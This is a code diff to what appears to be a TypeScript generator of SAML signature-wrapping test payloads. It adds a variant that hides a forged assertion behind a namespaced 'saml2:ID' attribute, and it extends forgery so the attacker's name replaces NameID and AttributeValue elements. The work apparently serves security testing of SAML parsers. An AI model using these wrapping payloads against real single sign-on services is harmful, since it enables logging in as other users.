@@ -75,6 +75,11 @@ export function wrapped(
         inPlace(forgedInPlace(assertion)),
         element('saml2p:Extensions', {}, smuggledReference(assertion.attributes.ID ?? '')),
       );
+    case 'prefixed-id':
+      return behindIssuer(
+        inPlace(behindIssuer(withPrefixedId(evil, assertion.attributes.ID ?? ''), signature)),
+        element('saml2p:Extensions', {}, bare),
+      );
     case 'encrypted-beside':
       return inPlace(encrypt(evil), assertion);
   }
@@ -97,14 +102,22 @@ function behindIssuer(node: XmlElement, ...more: readonly XmlNode[]): XmlElement
 
 const object = (content: XmlElement): XmlElement => element('ds:Object', {}, content);
 
-/** Copies the element with the attacker's name. */
+/** Copies the element with the attacker's name, in its attributes too: applications take the person from either. */
 const forged = (node: XmlElement, ID = EVIL_ID): XmlElement => ({
   ...forgedInPlace(node),
   attributes: { ...node.attributes, ID },
 });
 
 const forgedInPlace = (node: XmlElement): XmlElement =>
-  mapped(node, (one) => (one.name === 'saml2:NameID' ? { ...one, children: [EVIL] } : one));
+  mapped(node, (one) => (NAMES.has(one.name) ? { ...one, children: [EVIL] } : one));
+
+const NAMES: ReadonlySet<string> = new Set(['saml2:NameID', 'saml2:AttributeValue']);
+
+/** Adds an attribute of another namespace that careless readers take for the ID. */
+const withPrefixedId = (node: XmlElement, id: string): XmlElement => ({
+  ...node,
+  attributes: { ...node.attributes, 'saml2:ID': id },
+});
 
 /** Inserts the content as the value of the first attribute. */
 const intoAttribute = (evil: XmlElement, content: XmlElement): XmlElement =>
